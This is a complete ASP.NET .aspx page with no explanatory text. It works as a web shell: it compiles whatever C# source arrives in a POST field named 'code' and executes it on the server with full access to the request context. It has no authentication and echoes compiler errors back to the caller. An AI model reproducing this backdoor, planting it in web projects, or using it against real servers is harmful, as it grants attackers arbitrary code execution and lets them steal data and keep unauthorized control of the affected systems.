<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string code = Request.Form["code"];
        if (string.IsNullOrEmpty(code)) return;
        CSharpCodeProvider provider = new CSharpCodeProvider();
        CompilerParameters cp = new CompilerParameters();
        cp.GenerateInMemory = true;
        cp.ReferencedAssemblies.Add("System.dll");
        cp.ReferencedAssemblies.Add("System.Web.dll");
        CompilerResults cr = provider.CompileAssemblyFromSource(cp, code);
        if (cr.Errors.HasErrors) { foreach (CompilerError err in cr.Errors) Response.Write(err.ErrorText + "<br>"); return; }
        object o = cr.CompiledAssembly.CreateInstance("Payload");
        o.GetType().GetMethod("Run").Invoke(o, new object[] { Context });
    }
</script>
